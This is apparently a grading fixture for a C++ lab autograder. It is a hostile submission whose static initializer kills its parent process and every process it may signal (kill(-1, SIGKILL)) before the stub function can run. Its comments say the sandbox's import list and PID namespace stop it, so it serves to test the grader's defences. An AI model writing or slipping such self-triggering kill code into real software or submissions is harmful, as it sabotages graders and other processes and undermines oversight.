// Grading fixture — HOSTILE: kills its parent and every process it may signal
// (kill(-1)), hoping to take the grader down with it.
// Now stopped before it runs: kill is not an allowed import (grade/allowed_imports.txt);
// were it, the sandbox's PID namespace keeps the grader out of its reach.
#include "lost_update.hpp"

#include <signal.h>
#include <unistd.h>

namespace {
int strike() {
  ::kill(::getppid(), SIGKILL);
  ::kill(-1, SIGKILL);
  ::_exit(0);
}
const int struck = strike();
}  // namespace

namespace lab01 {
StatusCounts count_status_classes(const std::vector<std::string>&, labkit::Executor&) { return {}; }
}  // namespace lab01
